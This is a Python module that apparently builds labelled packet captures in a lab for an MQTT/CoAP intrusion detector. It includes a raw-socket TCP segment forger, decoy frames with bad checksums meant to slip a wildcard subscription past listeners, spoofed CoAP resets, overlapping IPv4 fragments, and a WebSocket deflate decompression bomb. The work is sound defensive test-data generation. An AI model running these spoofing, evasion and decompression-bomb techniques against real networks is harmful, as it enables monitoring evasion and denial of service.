"""Frames in the name of a client, for what its receiver drops and a listener must not believe."""

import base64
import hashlib
import socket
import struct
import time
import zlib

from .coap_tools import message
from .fake_broker import fake_broker
from .lab import BROKER, CLIENTS, COAP_SERVERS
from .samples import sample
from .wire import PINGREQ, RawClient, connect, packet, publish, subscribe

FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16


def checksum(data):
    """RFC 1071."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total >> 16) + (total & 0xFFFF)
    return ~total & 0xFFFF


class Forger:
    """Sees the frames of a client's connection, and sends others in its name.

    Make it before the connection. Numbers and options are those of the client's latest segment.
    """

    def __init__(self, client, interface="cl0"):
        self.client = socket.inet_aton(client)
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.socket.bind((interface, 0))
        self.socket.setblocking(False)
        self.link = self.ports = self.options = b""
        self.sequence = self.acknowledgement = 0

    def __enter__(self):
        return self

    def __exit__(self, *exception):
        self.socket.close()

    def look(self):
        """Reads what the client has sent since the last call."""
        time.sleep(0.05)
        while True:
            try:
                frame = self.socket.recv(65536)
            except BlockingIOError:
                return
            if frame[12:14] != b"\x08\0" or frame[23] != 6 or frame[26:30] != self.client:
                continue
            header = 14 + (frame[14] & 15) * 4
            length = (frame[header + 12] >> 4) * 4
            end = 14 + struct.unpack(">H", frame[16:18])[0]
            sequence, acknowledgement = struct.unpack(">II", frame[header + 4:header + 12])
            taken = end - header - length + (1 if frame[header + 13] & (SYN | FIN) else 0)
            self.sequence = (sequence + taken) & 0xFFFFFFFF
            self.acknowledgement = acknowledgement
            self.link, self.ports = frame[:12], frame[header:header + 4]
            if not frame[header + 13] & SYN:
                self.options = frame[header + 20:header + length]

    def send(self, payload=b"", *, flags=PSH | ACK, wrong_sum=False, older=0, ahead=0, ttl=64):
        """Sends a segment that would come next of the client."""
        options = self.options
        if older and options[:4] == b"\1\1\x08\x0a":
            now = struct.unpack(">I", options[4:8])[0]
            options = options[:4] + struct.pack(">I", (now - older) & 0xFFFFFFFF) + options[8:]
        server = socket.inet_aton(BROKER)
        head = self.ports + struct.pack(
            ">IIBBHHH", (self.sequence + ahead) & 0xFFFFFFFF, self.acknowledgement, (5 + len(options) // 4) << 4, flags,
            502, 0, 0) + options
        pseudo = self.client + server + struct.pack(">BBH", 0, 6, len(head) + len(payload))
        value = checksum(pseudo + head + payload) ^ (0x1111 if wrong_sum else 0)
        head = head[:16] + struct.pack(">H", value) + head[18:]
        ip = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(head) + len(payload), 7, 0x4000, ttl, 6, 0) + self.client + server
        ip = ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:]
        self.socket.send(self.link + b"\x08\0" + ip + head + payload)
        time.sleep(0.02)


@sample("network/decoys.pcap", {
    "mqtt_harvest": 1, "network_differing_copies": 1, "network_forged_reset": 1, "network_hidden_subscription": 1,
    "network_many_differing_copies": 1},
    counts={"mqtt": {"CONNACK": 1, "CONNECT": 1, "PUBLISH": 4, "SUBACK": 1, "SUBSCRIBE": 1}, "coap": {}})
def decoys(lab, name):
    """A client hides its SUBSCRIBE to `#` and two PUBLISH behind copies that Mosquitto's machine drops (a wrong checksum, no
    ACK flag, an old timestamp); then a RST with a wrong checksum. Mosquitto takes the real ones."""
    with lab.broker("allow_anonymous true"), lab.capture(name), Forger(CLIENTS[70]) as forger:
        with RawClient(CLIENTS[70]) as attacker:
            attacker.enter("quiet", username="quiet")
            forger.look()
            forger.send(subscribe("a"), wrong_sum=True)
            attacker.send(subscribe("#"))
            attacker.read()
            forger.look()
            forger.send(publish("a", b"nothing"), flags=PSH)
            attacker.send(publish("b", b"another"))
            forger.look()
            forger.send(publish("c", b"no more"), older=100_000)
            attacker.send(publish("d", b"the end"))
            forger.look()
            forger.send(flags=RST, wrong_sum=True)
            attacker.read()


@sample("mqtt/uncovered-delivery.pcap", {"mqtt_uncovered_delivery": 1, "mqtt_grant_unasked": 1, "mqtt_violation": 1})
def uncovered_delivery(lab, name):
    """A broker grants a client a subscription that it did not ask for, and sends it messages of twelve topics (own bytes)."""
    messages = b"".join(publish(f"plant/line{n}/state", b"on") for n in range(12))
    with lab.capture(name), fake_broker(lab, packet(0x20, b"\0\0"), packet(0x90, b"\0\1\0") + messages):
        with RawClient(CLIENTS[71]) as client:
            client.enter("quiet", username="quiet")
            client.send(packet(0xC0))
            client.read()


@sample("coap/answers-unasked.pcap", {"coap_answer_unasked": 1})
def answers_unasked(lab, name):
    """Twelve answers to a client that asked nothing (own bytes)."""
    answers = [message(0x45, payload=b"21", mid=0x7000 + n, token=bytes([0x70, n]), kind=1) for n in range(12)]
    script = f"""
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(({COAP_SERVERS[3]!r}, 5683))
for answer in {answers!r}:
    s.sendto(answer, ({CLIENTS[72]!r}, 40072))
"""
    with lab.capture(name), lab.server("python3", "-c", script) as server:
        server.wait(5)
        time.sleep(0.2)


@sample("coap/empty-unasked.pcap", {"coap_empty_unasked": 1})
def empty_unasked(lab, name):
    """Forty resets to a client in a server's name, with message ids that are guessed (own bytes)."""
    script = f"""
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(({COAP_SERVERS[3]!r}, 5683))
for number in range(40):
    s.sendto(bytes([0x70, 0, 0x40, number]), ({CLIENTS[85]!r}, 40085))
"""
    with lab.capture(name), lab.server("python3", "-c", script) as server:
        server.wait(5)
        time.sleep(0.2)


@sample("network/overlaps.pcap", {"network_fragment_overlap": 1})
def overlaps(lab, name):
    """A GET of CoAP in three fragments of IPv4, the second of which brings eight bytes of the first again (own bytes)."""
    request = message(1, "/a/long/path/that/takes/more/than/one/fragment", mid=0x7100, token=b"\1", kind=1)
    client, server = (socket.inet_aton(address) for address in (CLIENTS[86], COAP_SERVERS[0]))
    udp = struct.pack(">HHHH", 40086, 5683, 8 + len(request), 0) + request
    udp = udp[:6] + struct.pack(">H", checksum(client + server + struct.pack(">BBH", 0, 17, len(udp)) + udp)) + udp[8:]
    with lab.capture(name), socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for start, end in ((0, 24), (16, 40), (40, len(udp))):
            more = 0x2000 if end < len(udp) else 0
            part = udp[start:end]
            head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(part), 0x77, more | start // 8, 64, 17, 0) + client + server
            raw.sendto(head + part, (COAP_SERVERS[0], 0))
            time.sleep(0.05)
        time.sleep(0.2)


def frame(payload, *, first=0x82):
    """A masked WebSocket frame; the mask is zeros, which changes nothing."""
    size = len(payload)
    head = bytes([first]) + (bytes([0x80 | size]) if size < 126 else b"\xfe" + struct.pack(">H", size))
    return head + b"\0\0\0\0" + payload


@sample("network/websocket-bomb.pcap", {
    "mqtt_ping_flood": 1, "mqtt_websocket_in_clear": 1, "network_websocket_budget": 1}, counts={})
def websocket_bomb(lab, name):
    """After a CONNECT in WebSocket, a client sends 12 kB that inflate to twelve million bytes of PINGREQ (own bytes)."""
    key = base64.b64encode(b"earshot-samples!").decode()
    proof = base64.b64encode(hashlib.sha1((key + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").encode()).digest()).decode()
    request = (f"GET /mqtt HTTP/1.1\r\nHost: broker\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
               f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: mqtt\r\n"
               f"Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n").encode()
    answer = (f"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
              f"Sec-WebSocket-Accept: {proof}\r\nSec-WebSocket-Protocol: mqtt\r\n"
              f"Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n").encode()
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    bomb = deflate.compress(PINGREQ * 6_000_000) + deflate.flush(zlib.Z_SYNC_FLUSH)
    with lab.capture(name), fake_broker(lab, answer, b"\x82\x04" + packet(0x20, b"\0\0"), port=8083):
        with RawClient(CLIENTS[73], port=8083) as attacker:
            attacker.send(request, pause=0)
            attacker.read()
            attacker.send(frame(connect("bomb", username="bomb")), pause=0)
            attacker.read()
            attacker.send(frame(bomb[:-4], first=0xC2))
            attacker.read()
